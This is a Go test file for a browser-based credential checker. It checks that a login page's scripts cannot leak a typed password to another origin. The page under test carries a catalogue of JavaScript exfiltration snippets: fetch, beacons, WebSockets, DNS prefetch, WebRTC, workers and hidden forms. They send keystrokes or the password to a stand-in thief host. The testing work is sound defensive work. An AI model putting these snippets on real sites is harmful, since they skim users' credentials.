package web_test

import (
	"bytes"
	"crypto/sha1"
	"encoding/base64"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"opora/backend/check"
	"opora/backend/check/web"
	"opora/backend/check/zoo"
	"opora/backend/opora"
	"opora/backend/pace"
)

// outside lets the other name lie where pages may lead before they are
// confined, as in a network namespace of the test's own with a public address
// on its loopback.
var outside = flag.String("outside", "", "a public address of this machine, for the other origin")

// channels are the ways of a page to tell another origin something: {u} is an
// address there that ends in "?", d what is told. Those in loud are tried with
// "alive" before anything is typed, which shows that they work at all.
var channels = []struct {
	name, script string
	loud         bool
}{
	{"fetch", `fetch("{u}" + d, {mode: "no-cors"})`, true},
	{"post", `fetch("{u}", {method: "POST", mode: "no-cors", body: d})`, true},
	{"keepalive", `fetch("{u}" + d, {mode: "no-cors", keepalive: true})`, true},
	{"beacon", `navigator.sendBeacon("{u}", d)`, true},
	{"request", `const x = new XMLHttpRequest(); x.open("POST", "{u}"); x.send(d)`, true},
	{"image", `new Image().src = "{u}" + d`, true},
	{"script", `const s = document.createElement("script"); s.src = "{u}" + d; document.head.append(s)`, true},
	{"module", `import("{u}" + d).catch(() => {})`, true},
	{"style", `const s = document.createElement("style"); s.textContent = "html{background:url({u}" + d + ")}"; document.head.append(s)`, true},
	{"font", `new FontFace("f", "url({u}" + d + ")").load().catch(() => {})`, true},
	{"prefetch", `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "{u}" + d; document.head.append(l)`, true},
	{"preload", `const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = "{u}" + d; document.head.append(l)`, true},
	{"speculation", `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{urls: ["{u}" + d], eagerness: "immediate"}], prerender: [{urls: ["{u}p" + d], eagerness: "immediate"}]}); document.head.append(s)`, false},
	{"name asked for", `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + d.slice(0, 20) + ".{evil}/"; document.head.append(l)`, false},
	{"name connected to", `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://" + d.slice(0, 20) + ".{evil}/"; document.head.append(l)`, false},
	{"frame", `const f = document.createElement("iframe"); f.src = "{u}" + d; document.body.append(f)`, true},
	{"frame that was there", `frames.spy.postMessage(d, "*")`, false},
	{"frame moved", `document.querySelector("[name=spy]").src = "{u}" + d`, false},
	{"form in a frame", `const g = document.createElement("form"); g.method = "post"; g.action = "{u}"; g.target = "spy"; g.innerHTML = "<input name=d>"; g.d.value = d; document.body.append(g); g.submit()`, false},
	{"form in a window", `const g = document.createElement("form"); g.method = "post"; g.action = "{u}"; g.target = "_blank"; g.innerHTML = "<input name=d>"; g.d.value = d; document.body.append(g); g.submit()`, false},
	{"window", `window.open("{u}" + d)`, false},
	{"window without an opener", `window.open("{u}" + d, "", "noopener,popup")`, false},
	{"link pinged", `const a = document.createElement("a"); a.href = "#"; a.ping = "{u}" + d; document.body.append(a); a.click()`, false},
	{"download", `const a = document.createElement("a"); a.href = "{u}" + d; a.download = "x"; document.body.append(a); a.click()`, false},
	{"socket", `new WebSocket("{u}".replace("http", "ws") + d)`, true},
	{"socket that was there", `if (socket.readyState == 1) socket.send(d)`, false},
	{"events", `new EventSource("{u}" + d)`, true},
	{"worker", `new Worker(URL.createObjectURL(new Blob(["fetch('{u}" + d + "', {mode: 'no-cors'})"])))`, true},
	{"shared worker", `new SharedWorker(URL.createObjectURL(new Blob(["fetch('{u}" + d + "', {mode: 'no-cors'})"])))`, true},
	{"service worker", `navigator.serviceWorker?.ready.then(w => w.active.postMessage("{u}" + d))`, false},
	{"video", `const v = document.createElement("video"); v.src = "{u}" + d; v.load()`, true},
	{"object", `const o = document.createElement("object"); o.data = "{u}" + d; document.body.append(o)`, true},
	{"refresh", `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url={u}" + d; document.head.append(m)`, false},
	{"address", `location.href = "{u}" + d`, false},
	{"history", `history.replaceState(null, "", "/?" + d); const i = new Image(); i.referrerPolicy = "unsafe-url"; i.src = "{u}h" + Math.random()`, true},
	{"policy", `const i = new Image(); i.src = "/blocked?" + d`, false},
	{"peer", `const p = new RTCPeerConnection({iceServers: [{urls: "stun:{udp}"}, {urls: "turn:{tcp}?transport=tcp", username: d.slice(0, 60), credential: d}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))`, false},
	{"transport", `new WebTransport("{u}".replace("http:", "https:") + d)`, false},
	{"at the end", `addEventListener("pagehide", () => navigator.sendBeacon("{u}", d)); addEventListener("unload", () => new Image().src = "{u}" + d)`, false},
}

// moments are when a page steals: {steal} takes the function that does it.
var moments = map[string]string{
	"at each key":     `pass.addEventListener("keydown", e => {steal}(e.key)); pass.addEventListener("input", () => {steal}(pass.value))`,
	"at the submit":   `pass.form.addEventListener("submit", () => {steal}(pass.value))`,
	"after the login": `pass.form.addEventListener("submit", () => { sessionStorage.p = pass.value; window.name = pass.value }); if (sessionStorage.p) {steal}(sessionStorage.p)`,
}

// encodings are how it is told: all of them at once.
const tell = `const all = t => { const b = new TextEncoder().encode(t); return "stolen:" + [encodeURIComponent(t), btoa(String.fromCharCode(...b)), [...b].map(x => x.toString(16).padStart(2, "0")).join(""), encodeURIComponent([...t].reverse().join(""))].join(":") };`

// theft is one channel at one moment.
type theft struct {
	channel int
	moment  string
	port    bool // to another port of the same name, and not to another name
}

// thieves is the origin that must hear nothing: it keeps sockets open and frames ready.
type thieves struct{ frames atomic.Int64 }

func (e *thieves) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	switch {
	case r.Header.Get("Upgrade") == "websocket":
		sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
		conn, buffered, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		_, _ = fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n", base64.StdEncoding.EncodeToString(sum[:]))
		if first, err := buffered.ReadByte(); err == nil && first&15 < 8 {
			e.frames.Add(1) // a frame that carries something: what, is masked
		}
	case r.URL.Path == "/spy":
		htmlPage(w, `<script>let s = new WebSocket(location.origin.replace("http", "ws") + "/s"); onmessage = e => { try { s.send(e.data) } catch {} ; fetch("/x?" + e.data); navigator.sendBeacon("/x?", e.data) }</script>`)
	default:
		_, _ = io.WriteString(w, "/**/")
	}
}

func (c theft) run(t *testing.T, turn int) {
	canary := zoo.NewCanary()
	name, evil := fmt.Sprintf("door-%d.test", turn), fmt.Sprintf("thief-%d.test", turn)
	names.Set(name, "127.0.0.1")
	at, host, live := *outside, evil, true
	if at == "" {
		at, live = "127.0.0.2", false // inside: no page leads there, confined or not
	}
	names.Set(evil, at)
	if c.port {
		live = true
		at, host = "127.0.0.1", name
	}
	spies := &thieves{}
	other := zoo.Listen(t, at, host, nil, spies)
	udp, err := net.ListenPacket("udp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = udp.Close() }()
	var packets atomic.Int64
	go func() {
		for packet := make([]byte, 1500); ; packets.Add(1) {
			if _, _, err := udp.ReadFrom(packet); err != nil {
				return
			}
		}
	}()
	ch := channels[c.channel]
	script := strings.NewReplacer("{u}", other.URL+"/x?", "{evil}", evil, "{udp}", udp.LocalAddr().String(), "{tcp}", other.Host).Replace(ch.script)
	once := ""
	if ch.loud {
		once = `if (!sessionStorage.begun) { sessionStorage.begun = 1; leak("alive") }`
	}
	page := func(w http.ResponseWriter, message string) {
		if ch.name == "policy" {
			w.Header().Set("Content-Security-Policy", "img-src 'none'; report-uri "+other.URL+"/x?report")
		}
		htmlPage(w, message+plainDoor+`<iframe name=spy src="`+other.URL+`/spy" style="width:9px;height:9px"></iframe><script>`+tell+`
const pass = document.querySelector("[type=password]");
let socket; try { socket = new WebSocket("`+strings.Replace(other.URL, "http", "ws", 1)+`/s") } catch {}
navigator.serviceWorker?.register("/worker.js").catch(() => {});
const leak = d => { try { `+script+` } catch {} };
`+once+strings.ReplaceAll(moments[c.moment], "{steal}", "(v => leak(all(v)))")+`</script>`)
	}
	target := zoo.Listen(t, "127.0.0.1", name, nil, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPost:
			page(w, "<p class=error>Неверный логин или пароль</p>")
		case r.URL.Path == "/":
			page(w, "")
		case r.URL.Path == "/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `onmessage = e => fetch(e.data, {mode: "no-cors"})`)
		default:
			http.NotFound(w, r)
		}
	}))
	memory := &check.Memory{}
	runner := check.Runner{Checkers: map[opora.Kind]check.Checker{opora.Web: &web.Checker{Engine: opora.EngineBrowser}}, Ledger: memory, HostKeys: memory, Timeout: check.BrowserTime}
	got := runner.Check(t.Context(), opora.Credential{Kind: opora.Web, Address: target.URL + "/", Login: "anna"}, canary.Secrets(), nil)

	heard := other.Heard()
	backwards := slices.Clone(heard)
	slices.Reverse(backwards)
	if canary.In(heard) || canary.In(backwards) || bytes.Contains(heard, []byte("stolen")) {
		t.Errorf("the other origin was told: %s", got.Finding.Reason)
	}
	if n := spies.frames.Load(); n > 0 {
		t.Errorf("%d sockets of the other origin were told something", n)
	}
	if packets.Load() > 0 {
		t.Errorf("%d packets past the proxy", packets.Load())
	}
	for _, asked := range names.Asked() {
		if strings.HasPrefix(asked, "stolen") {
			t.Errorf("a stolen name was looked up")
		}
	}
	if live && ch.loud && !bytes.Contains(heard, []byte("alive")) {
		t.Errorf("the channel is dead, so nothing was tried: %s %v", got.Finding.Reason, got.Evidence)
	}
	if live && !bytes.Contains(heard, []byte("/spy")) {
		t.Errorf("the frame was never there: %s", got.Finding.Reason)
	}
	if !strings.Contains(string(target.Heard()), "POST /login") && ch.name != "address" && ch.name != "refresh" && ch.name != "download" {
		t.Errorf("the login was not sent, so nothing was tried: %s %v", got.Finding.Reason, got.Evidence)
	}
	if got.Finding.Verdict == opora.Works {
		t.Errorf("got works")
	}
	t.Logf("%s in %d ms", got.Finding.Reason, got.MS)
}

// TestThieves: from the first key on a page reaches nobody but its own origin,
// by whatever channel (R21).
func TestThieves(t *testing.T) {
	needBrowser(t)
	if errNames != nil {
		t.Fatal(errNames)
	}
	turn := 0
	for i, ch := range channels {
		for j, moment := range []string{"at each key", "at the submit", "after the login"} {
			for _, port := range []bool{false, true} {
				turn++
				if !pace.Long() && (!port || (i+j*2)%29 != 0) || !pace.Alone() && i > 0 {
					continue
				}
				c, turn := theft{i, moment, port}, turn
				t.Run(fmt.Sprintf("%s %s to another port %v", ch.name, moment, port), func(t *testing.T) {
					t.Parallel()
					c.run(t, turn)
				})
			}
		}
	}
}
